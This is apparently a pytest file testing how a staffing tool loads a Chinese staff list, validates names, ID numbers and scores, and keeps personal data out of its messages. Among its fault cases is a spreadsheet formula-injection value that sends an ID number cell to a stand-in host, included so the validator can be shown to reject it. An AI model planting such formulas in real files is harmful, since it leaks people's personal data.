"""The staff list: read beside the scenario, checked, and told without saying who anybody is."""

from copy import deepcopy
from decimal import Decimal

import pytest

from staffing.io.scenario_file import load
from staffing.io.table_alone import check_table
from staffing.masking import check_digit
from tests.unit.io import builders

HEADER = ["人员编号", "姓名", "身份证号", "站点编码", "考核分"]


def id_number(serial: int) -> str:
    digits = f"9999991990010{serial:04d}"
    return digits + check_digit(digits)


PEOPLE = [
    HEADER,
    ["P1", "张甲", id_number(1001), "S1", 80],
    ["P2", "买买提·己", id_number(1002), "S1", 81.5],
    ["P3", "欧阳戊", None, "S2", None],
]
SECRETS = ["张甲", "买买提", "欧阳", id_number(1001)[3:], id_number(1002)[3:], "13800000000"]


def with_people(tmp_path, rows):
    return builders.book(tmp_path / "p.xlsx", builders.sheets(人员=rows))


def changed(row, column, value):
    rows = deepcopy(PEOPLE)
    rows[row][column] = value
    return rows


def test_people_are_read_and_no_part_of_the_scenario(tmp_path):
    loaded = load(with_people(tmp_path, PEOPLE))
    without = load(builders.book(tmp_path / "q.xlsx", builders.sheets()))
    assert [(p.id, p.name, p.station, p.score) for p in loaded.people] == [
        ("P1", "张甲", "S1", Decimal(80)),
        ("P2", "买买提·己", "S1", Decimal("81.5")),
        ("P3", "欧阳戊", "S2", None),
    ]
    assert loaded.scenario.model_copy(update={"name": ""}) == without.scenario.model_copy(update={"name": ""})
    assert loaded.scenario.input_sha256 == without.scenario.input_sha256
    assert loaded.warnings == ()
    assert not any(secret in repr(loaded) + repr(loaded.people) for secret in SECRETS)


def test_the_column_of_id_numbers_is_dropped_with_one_note(tmp_path):
    loaded = load(with_people(tmp_path, PEOPLE))
    (note,) = loaded.notes
    assert (note.code, note.where, note.name, note.read) == ("W_PERSONAL", "人员!C1", "身份证号", None)
    bare = load(with_people(tmp_path, [row[:2] + row[3:] for row in PEOPLE]))
    assert bare.notes == ()
    assert bare.people == loaded.people


def test_a_list_needs_no_more_than_staff_numbers(tmp_path):
    (person,) = load(with_people(tmp_path, [["人员编号"], ["P1"]])).people
    assert (person.name, person.station, person.score) == (None, None, None)


FAULTS = {
    "score above 100": (changed(1, 4, 880), "E_RANGE", "人员!E2"),
    "score below 0": (changed(1, 4, -1), "E_RANGE", "人员!E2"),
    "score as percentage": (changed(1, 4, "85%"), "E_NUMBER", "人员!E2"),
    "score in words": (changed(1, 4, "优秀"), "E_NUMBER", "人员!E2"),
    "unknown station": (changed(1, 3, "S9"), "E_UNKNOWN_KEY", "人员!D2"),
    "no station": (changed(1, 3, None), "E_MISSING", "人员!D2"),
    "no name": (changed(1, 1, None), "E_MISSING", "人员!B2"),
    "no staff number": (changed(1, 0, None), "E_ROW", "人员!2"),
    "staff number twice": (changed(2, 0, "P1"), "E_DUPLICATE", "人员!A2,A3"),
    "staff number twice but for case": (changed(2, 0, "ｐ1"), "E_DUPLICATE", "人员!A2,A3"),
    "id number twice": (changed(2, 2, id_number(1001)), "E_DUPLICATE", "人员!C2,C3"),
    "id number as a number": (changed(1, 2, float(id_number(1001))), "E_ID_PRECISION", "人员!C2"),
    "id number in scientific form": (changed(1, 2, "9.99999E+17"), "E_ID_PRECISION", "人员!C2"),
    "id number with a wrong end": (
        changed(1, 2, id_number(1001)[:-1] + ("1" if id_number(1001)[-1] != "1" else "2")),
        "E_ID_CHECKSUM",
        "人员!C2",
    ),
    "id number of 15 digits": (changed(1, 2, "999999900101001"), "E_ID_CHECKSUM", "人员!C2"),
    "name for an id number": (changed(1, 2, "张甲"), "E_ID_CHECKSUM", "人员!C2"),
    "id number for a name": (changed(1, 1, id_number(1001)), "E_ID_IN_WRONG_COLUMN", "人员!B2"),
    "id number for a staff number": (changed(1, 0, id_number(1001)), "E_ID_IN_WRONG_COLUMN", "人员!A2"),
    "id number for a station": (changed(1, 3, id_number(1001)), "E_ID_IN_WRONG_COLUMN", "人员!D2"),
    "name for a station": (changed(1, 3, "张甲"), "E_STATION_NAME", "人员!D2"),
    "name for a staff number": (changed(1, 0, "张甲"), "E_ID_CHARSET", "人员!A2"),
    "phone behind a name": (changed(1, 1, "张甲13800000000"), "E_NAME", "人员!B2"),
    "digits in a name": (changed(1, 1, "张甲2"), "E_NAME", "人员!B2"),
    "formula for a name": (changed(1, 1, '=HYPERLINK("http://x.invalid/?"&C2)'), "E_NAME", "人员!B2"),
    "tab before a name": (changed(1, 1, "\t张甲"), "E_NAME", "人员!B2"),
    "full-width sign before a name": (changed(1, 1, "＋张甲"), "E_NAME", "人员!B2"),
    "markup in a name": (changed(1, 1, "张甲<b>"), "E_NAME", "人员!B2"),
    "invisible character in a name": (changed(1, 1, "张\u200b甲"), "E_INVISIBLE", "人员!B2"),
    "blanks around a bad name": (changed(1, 1, " 张甲13800000000 "), "E_NAME", "人员!B2"),
}


@pytest.mark.parametrize(("rows", "code", "where"), FAULTS.values(), ids=FAULTS)
def test_a_fault_is_told_and_nobody_named(tmp_path, rows, code, where):
    found = builders.issues(lambda: load(with_people(tmp_path, rows)))
    assert (found[0].code, found[0].where) == (code, where)
    said = "".join(issue.line(lang) + str(issue.document(lang)) for issue in found for lang in ("zh", "en"))
    assert not any(secret in said for secret in SECRETS)


def test_one_fault_for_a_whole_column(tmp_path):
    rows = [
        HEADER,
        *([f"P{n}", f"=张甲{n}", None, "S1", None] for n in range(1, 5)),
        ["P9", "乙", "", "S1", 1],
    ]
    (fault,) = builders.issues(lambda: load(with_people(tmp_path, rows)))
    assert (fault.code, fault.where, fault.values["times"]) == ("E_NAME", "人员!B2:B5", 4)


def test_many_places_are_cut(tmp_path):
    rows = [HEADER, *([f"P{n}", f"=甲{n}" if n % 2 else "甲", None, "S1", None] for n in range(200))]
    (fault,) = builders.issues(lambda: load(with_people(tmp_path, rows)))
    assert fault.values["times"] == 100
    assert fault.where.startswith("人员!B3,B5,")
    assert fault.where.endswith(",…")
    assert len(fault.where) < 200


def test_in_a_csv_the_column_is_named_with_its_first_line(tmp_path):
    path = tmp_path / "人员.csv"
    rows = [HEADER, ["P1", "张甲", "9.99E+17", "S1", 80], ["P2", "李乙", "9.99E+17", "S1", 80]]
    path.write_text(builders.csv_text(rows), encoding="utf-8")
    (fault,) = builders.issues(lambda: check_table(path))
    assert (fault.code, fault.where) == ("E_ID_PRECISION", "col 3, line 2, 身份证号")
    assert fault.line("zh").startswith("人员.csv · 第3列，第2行，身份证号 · ")
    path.write_text(builders.csv_text([HEADER, rows[1], PEOPLE[2]]), encoding="utf-8")
    assert builders.faults(lambda: check_table(path)) == [("E_ID_PRECISION", "line 2, 身份证号")]


@pytest.mark.parametrize("dot", "•‧・∙．.")
def test_another_dot_in_a_name_is_kept_and_noted(tmp_path, dot):
    loaded = load(with_people(tmp_path, changed(2, 1, f"买买提{dot}己")))
    assert loaded.people[1].name == f"买买提{dot}己"
    (note,) = loaded.warnings
    assert (note.code, note.where) == ("W_NAME_DOT", "人员!B3")
    assert "买**" in note.line("zh")
    assert "买买提" not in note.line("zh") + note.line("en")


def test_a_trimmed_name_is_not_shown_in_the_notes(tmp_path):
    loaded = load(with_people(tmp_path, changed(1, 1, " 张甲 ")))
    assert loaded.people[0].name == "张甲"
    assert [note.code for note in loaded.notes] == ["W_PERSONAL", "W_TRIMMED"]
    said = str(loaded.notes) + "".join(issue.line("zh") for issue in loaded.warnings)
    assert not any(secret in said for secret in SECRETS)


def test_a_list_without_a_header_names_nobody(tmp_path):
    path = with_people(tmp_path, PEOPLE[1:])
    (fault,) = builders.issues(lambda: load(path))
    assert fault.code == "E_HEADER"
    assert not any(secret in fault.line("zh") for secret in SECRETS)


def test_people_of_a_folder_of_tables(tmp_path):
    content = {
        name: rows for name, rows in builders.sheets(人员=PEOPLE).items() if name not in ("权重", "参数")
    }
    builders.csv_folder(tmp_path / "tables", content)
    loaded = load(builders.yaml_with(tmp_path, "tables"))
    assert [person.id for person in loaded.people] == ["P1", "P2", "P3"]
